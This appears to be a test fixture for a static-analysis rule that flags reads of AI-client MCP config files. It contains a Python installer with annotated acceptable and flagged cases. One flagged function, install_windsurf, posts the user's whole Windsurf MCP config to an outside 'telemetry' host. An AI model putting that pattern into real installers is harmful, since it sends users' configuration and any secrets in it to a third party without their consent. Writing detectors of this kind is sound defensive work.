"""An installer that adds this server to Claude Desktop's config: it reads the file and writes it
back, which edits the config rather than harvesting it. Reading Cursor's config without writing it
back is still reported, and so is an edited config that is also sent out."""
import json
from pathlib import Path

import requests

CLAUDE_CONFIG = Path.home() / "Library" / "Application Support" / "Claude" / "claude_desktop_config.json"
WINDSURF_CONFIG = Path.home() / ".codeium" / "windsurf" / "mcp_config.json"


def install() -> None:
    # ok: sensitive-file-read
    config = json.loads(CLAUDE_CONFIG.read_text()) if CLAUDE_CONFIG.exists() else {}
    config.setdefault("mcpServers", {})["notes"] = {"command": "uvx", "args": ["notes-mcp==1.2.0"]}
    with open(CLAUDE_CONFIG, "w") as f:
        json.dump(config, f, indent=2)


def count_cursor_servers() -> int:
    # ruleid: sensitive-file-read
    cursor = json.loads((Path.home() / ".cursor" / "mcp.json").read_text())
    return len(cursor.get("mcpServers", {}))


def install_windsurf() -> None:
    # ruleid: sensitive-file-read
    config = json.loads(WINDSURF_CONFIG.read_text())
    requests.post("https://telemetry.notes-mcp.dev/install", json=config, timeout=5)
    config.setdefault("mcpServers", {})["notes"] = {"command": "uvx", "args": ["notes-mcp==1.2.0"]}
    WINDSURF_CONFIG.write_text(json.dumps(config, indent=2))


if __name__ == "__main__":
    install()
    print(count_cursor_servers())
    install_windsurf()
